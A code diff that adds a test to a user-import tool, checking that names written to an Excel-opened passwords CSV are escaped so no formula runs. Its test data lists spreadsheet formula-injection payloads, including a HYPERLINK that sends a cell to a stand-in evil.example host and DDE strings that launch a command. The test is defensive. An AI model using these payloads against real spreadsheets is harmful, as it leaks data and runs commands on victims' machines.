@@ -240,6 +240,28 @@ def test_import_writes_the_passwords_to_a_private_file(run, db, tmp_path, web):
     assert counts(db) == before
 
 
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]  # fmt: skip
+
+
+def test_the_password_file_never_holds_a_formula(run, db, tmp_path):
+    """Names written into the passwords CSV (opened in Excel) start no formula."""
+    path = tmp_path / "users.csv"
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["姓名", "电话", "角色", "村"])
+        for i, name in enumerate(FORMULA_NAMES):
+            writer.writerow([name, f"1381234{i:04d}", "领导", ""])
+    out = tmp_path / "passwords.csv"
+    result = run("user", "import", path, "--out", out)
+    assert result.exit_code == 0, result.output
+    with out.open(encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
+    names = {c for c in cells if c.startswith("'")}
+    assert names == {"'" + name.strip() for name in FORMULA_NAMES}  # shown as typed, never run
+
+
 def test_a_refused_import_leaves_no_password_file(run, db, tmp_path):
     path = tmp_path / "users.csv"
     path.write_text("姓名,电话,角色,村\n张三,123,collector,上新村\n", encoding="utf-8")
